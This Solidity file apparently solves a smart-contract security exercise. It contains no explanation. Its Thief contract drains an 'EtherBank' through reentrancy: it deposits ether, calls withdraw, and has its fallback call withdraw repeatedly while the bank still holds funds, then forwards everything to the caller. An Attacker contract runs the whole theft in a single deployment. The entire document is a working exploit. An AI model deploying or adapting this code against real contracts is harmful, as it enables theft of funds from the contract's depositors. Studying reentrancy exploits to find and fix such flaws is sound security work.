// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface Bank {
    function deposit() external payable;

    function withdraw() external;
}

/// A contract of the same name as the bank's, to no avail.
contract EtherBank {}

contract Thief {
    Bank private immutable bank;

    constructor(Bank bank_) {
        bank = bank_;
    }

    function steal(address payable to) external payable {
        bank.deposit{value: msg.value}();
        bank.withdraw();
        to.transfer(address(this).balance);
    }

    fallback() external payable {
        if (address(bank).balance > 0) bank.withdraw();
    }
}

contract Attacker {
    constructor(address bank) payable {
        new Thief(Bank(bank)).steal{value: msg.value}(payable(msg.sender));
    }
}
